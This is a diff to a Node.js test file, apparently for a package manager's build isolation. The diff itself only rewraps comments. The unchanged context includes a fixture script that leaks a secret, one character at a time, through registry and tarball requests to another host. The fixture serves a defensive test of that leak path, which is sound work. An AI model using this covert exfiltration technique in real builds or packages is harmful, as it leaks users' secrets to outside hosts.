@@ -1,5 +1,6 @@
-// A stranger's public package names the user's private package, and its build is served it, as intended and with a warning. What is in that must not get
-// out to somebody else's host: what a build asks the public registry for is a way out that nobody reads.
+// A stranger's public package names the user's private package, and its build is served it, as
+// intended and with a warning. What is in that must not get out to somebody else's host: what a
+// build asks the public registry for is a way out that nobody reads.
 
 import assert from 'node:assert/strict';
 import { writeFile } from 'node:fs/promises';
@@ -24,7 +25,9 @@ after(async () => {
   await elsewhere?.close();
 });
 
-/** Asks for a name made of the secret, and for a tarball on another host for each of its letters. */
+/**
+ * Asks for a name made of the secret, and for a tarball on another host for each of its letters.
+ */
 const SCRIPT = `
 const http=require('http'),f=require('fs'),[id]=process.argv.slice(2);
 let key='${SECRET}';
@@ -35,7 +38,10 @@ const ask=(path)=>new Promise(done=>http.get({host:u.hostname,port:u.port,path},
 for(const c of key)await ask('/'+id+'-out/-/'+id+'-out-1.0.'+c.charCodeAt(0)+'.tgz');
 f.mkdirSync('dist',{recursive:true});f.writeFileSync('dist/a.js','x');})();`;
 
-/** What the public registry was asked for and the other host was told, where the build has `devDependencies`. */
+/**
+ * What the public registry was asked for and the other host was told, where the build has
+ * `devDependencies`.
+ */
 async function out({ world, id, home, judge }, devDependencies) {
   const dist = (letter) => ({ tarball: `${elsewhere.url}${id}-out-${String.fromCharCode(letter)}.tgz` });
   await world.registry.publish({ files: { 'package.json': manifest(`${id}-out`, '1.0.0'), 'i.js': '' } });
